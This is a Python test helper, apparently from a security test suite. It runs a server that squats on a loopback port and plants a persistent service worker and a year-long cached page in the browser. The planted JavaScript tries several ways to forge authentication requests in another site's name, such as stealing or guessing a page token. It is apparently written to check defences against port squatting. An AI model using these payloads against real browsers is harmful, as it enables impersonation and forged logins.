"""A program that held a port of ours before us, and what it leaves in a browser: a worker, a page kept for a year."""

import ssl
import threading
from enum import StrEnum
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from socket import AF_INET, AF_INET6
from types import TracebackType

from typing_extensions import override


class Plant(StrEnum):
    """What stays behind in the browser."""

    WORKER = "worker"
    CACHE = "cached page"


# What the planted page does when the evil site opens it in the place of our popup: it is of one origin with whatever is
# served under the fixed name, and tries every way from there to an order in another site's name. It tells its opener.
_PLANTED = """<!DOCTYPE html><meta charset="utf-8"><title>planted</title><script type="module">
const order = {{ origin: "{victim}", challenge: "{challenge}", language: "en" }};
const tell = (name, value) => opener.postMessage({{ planted: name, value }}, "*");
const tokenIn = (text) => /name="page-token" content="([^"]+)"/.exec(text)?.[1] ?? "none";
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
async function post(page_token) {{
  const headers = {{ "content-type": "application/json" }};
  const options = {{ method: "POST", headers, body: JSON.stringify({{ ...order, page_token }}) }};
  return (await fetch("/v1/popup/authenticate", options)).json();
}}
const ways = {{
  async fetched() {{ return post(tokenIn(await (await fetch("/v1/popup", {{ cache: "reload" }})).text())); }},
  async guessed() {{ return post("A".repeat(43)); }},
  async framed() {{
    const frame = document.createElement("iframe");
    frame.src = "/v1/popup";
    document.body.append(frame);
    await later(1000);
    return post(tokenIn(frame.contentDocument.documentElement.innerHTML));
  }},
  async opened() {{
    const other = open("/v1/popup", "other");
    await later(1000);
    return post(tokenIn(other.document.documentElement.innerHTML));
  }},
  async direct() {{
    const headers = {{ "content-type": "application/json" }};
    return (await fetch("/v1/authenticate", {{ method: "POST", headers, body: JSON.stringify(order) }})).json();
  }},
}};
if (window.name !== "other" && window.top === window) {{
  for (const [name, way] of Object.entries(ways)) {{
    await way().then((value) => tell(name, value), (error) => tell(name, `${{error}}`));
  }}
  tell("done", location.origin);
}}
</script>"""
_HOME = """<!DOCTYPE html><meta charset="utf-8"><title>squatter</title><script type="module">
await navigator.serviceWorker.register("/worker.js");
await navigator.serviceWorker.ready;
while (!navigator.serviceWorker.controller) await new Promise((resolve) => setTimeout(resolve, 20));
opener.postMessage({ planted: "worker" }, "*");
</script>"""
# Answers in our place whenever a page of another origin leads here.
_WORKER = """const page = {page!r};
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {{
  const from = event.request.referrer;
  if (event.request.mode !== "navigate" || from.startsWith(location.origin)) return;
  event.respondWith(new Response(page, {{ headers: {{ "content-type": "text/html" }} }}));
}});"""


class Squatter:
    """It, on a port of both loopback addresses; a context manager. `asked` are the paths that it was asked for.

    `certificate`: it speaks TLS, with a certificate that some root of the computer vouches for.
    """

    def __init__(self, port: int, victim: str = "", challenge: str = "", certificate: Path | None = None) -> None:
        self.asked: list[str] = []
        page = _PLANTED.format(victim=victim, challenge=challenge)
        self.pages = {
            "/": ("text/html", _HOME),
            "/worker.js": ("text/javascript", _WORKER.format(page=page)),
            "/v1/popup": ("text/html", page),
        }
        addresses = (("127.0.0.1", AF_INET), ("::1", AF_INET6))
        self._servers = [_Server(self, address, family, port, certificate) for address, family in addresses]
        self._threads = [threading.Thread(target=server.serve_forever, args=(0.05,)) for server in self._servers]

    def __enter__(self) -> "Squatter":
        """Starts to serve."""
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        """Gives the port back."""
        for server, thread in zip(self._servers, self._threads, strict=True):
            server.shutdown()
            server.server_close()
            thread.join()


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, squatter: Squatter, address: str, family: int, port: int, certificate: Path | None) -> None:
        self.address_family = family
        super().__init__((address, port), _Handler)
        self.squatter = squatter
        if certificate is not None:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(certificate, certificate.with_suffix(".key"))
            self.socket = context.wrap_socket(self.socket, server_side=True, do_handshake_on_connect=False)

    @override
    def handle_error(self, request: object, client_address: object) -> None:
        """A browser that leaves is no error of ours."""


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        """A page, to be kept for a year."""
        assert isinstance(self.server, _Server)
        self.server.squatter.asked.append(self.path)
        kind, text = self.server.squatter.pages.get(self.path, ("text/plain", ""))
        body = text.encode()
        self.send_response(200)
        self.send_header("Content-Type", f"{kind}; charset=utf-8")
        self.send_header("Cache-Control", "max-age=31536000, immutable")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    @override
    def log_message(self, format: str, *arguments: object) -> None:
        """Says nothing."""
